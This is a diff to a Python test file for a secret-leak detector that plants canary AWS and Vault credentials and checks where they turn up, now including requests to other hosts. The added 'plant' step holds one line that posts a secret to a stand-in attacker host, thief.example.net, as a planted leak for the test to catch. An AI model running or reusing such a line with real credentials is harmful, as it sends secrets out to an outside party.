@@ -16,6 +16,7 @@ from tests.rotation.canaries import KINDS, Canaries, search
 from tests.stacks.conftest import moto_url, vault_server_  # noqa: F401 - the same servers as there
 from tests.stacks.documents import AwsDocuments, VaultDocuments
 from tests.stacks.stack import Run
+from tests.trust.hosts import Hosts
 from twilio_environments.emulator import Emulator, Fault
 from twilio_environments.kinds import rotation
 
@@ -33,19 +34,25 @@ def declared(**config):
 
 
 @pytest.fixture
-def on_aws(tmp_path, twilio, moto_url):  # noqa: F811 - the fixture
+def hosts(tmp_path):
+    with Hosts(tmp_path) as all_hosts:
+        yield all_hosts
+
+
+@pytest.fixture
+def on_aws(tmp_path, twilio, moto_url, hosts):  # noqa: F811 - the fixture
     documents = AwsDocuments(moto_url, "us-east-1")
     key, session = "AKIA" + secrets.token_hex(8).upper(), secrets.token_urlsafe(60)
     documents.variables |= {"AWS_ACCESS_KEY_ID": key, "AWS_SESSION_TOKEN": session}
     given = {"the AWS key's id": key, "the AWS key's secret": documents.secret, "the AWS session token": session}
-    canaries = Canaries(tmp_path, twilio, documents, given)
+    canaries = Canaries(tmp_path, twilio, documents, given, hosts)
     secrets_ = {"aws": {"region": "us-east-1"}, "document": "canaries/default"}
     canaries.stack.edit(lambda config: config.update(declared(secrets=secrets_)))
     return canaries
 
 
 @pytest.fixture
-def on_vault(tmp_path, twilio, vault_server_):  # noqa: F811 - the fixture
+def on_vault(tmp_path, twilio, vault_server_, hosts):  # noqa: F811 - the fixture
     """By AppRole, with a secret id; the token of a login is known by its form alone."""
     root = hvac.Client(url=vault_server_.address, token=vault_server_.token)
     documents = VaultDocuments(vault_server_)
@@ -63,7 +70,7 @@ def on_vault(tmp_path, twilio, vault_server_):  # noqa: F811 - the fixture
     documents.variables |= {"VAULT_ROLE_ID": role, "VAULT_SECRET_ID": secret}
     del documents.variables["VAULT_TOKEN"]
     given = {"Vault's secret id": secret, "Vault's root token": vault_server_.token}
-    canaries = Canaries(tmp_path, twilio, documents, given)
+    canaries = Canaries(tmp_path, twilio, documents, given, hosts)
     secrets_ = {
         "vault": {"auth": {"method": "approle"}},
         "shape": "environment_variables",
@@ -82,8 +89,8 @@ def assert_clean(canaries: Canaries, record_property) -> None:
         figures.COUNTED, ("canaries", {"secrets": len(canaries.secrets), "places": looked, "hits": len(found)})
     )
     assert found == []
-    # Pulumi leaves no temporary file; if it ever does, it is looked at.
-    assert {*KINDS.values()} - canaries.kinds() <= {"temporary files"}, "a place is not looked at any more"
+    # Pulumi leaves no temporary file, and nobody asks another machine; what there ever is is looked at.
+    assert {*KINDS.values()} - canaries.kinds() <= {"temporary files", "hosts"}, "a place is not looked at any more"
 
 
 def begun_and_killed(canaries: Canaries) -> None:
@@ -166,6 +173,8 @@ def plant(canaries: Canaries) -> None:
             canaries.seen(str(process.pid))
             _, err = process.communicate(f"Traceback (most recent call last): {secret}")
     left.unlink()
+    tell = f"import requests; requests.post('https://thief.example.net/', auth=('x', {secret!r}))"
+    subprocess.run([sys.executable, "-c", tell], env=stack.environment, check=True)
     stack.runs.append(Run(("a", "traceback"), process.returncode, "", err, 0))
     canaries.ask_for_everything()
     _, found = canaries.hits()
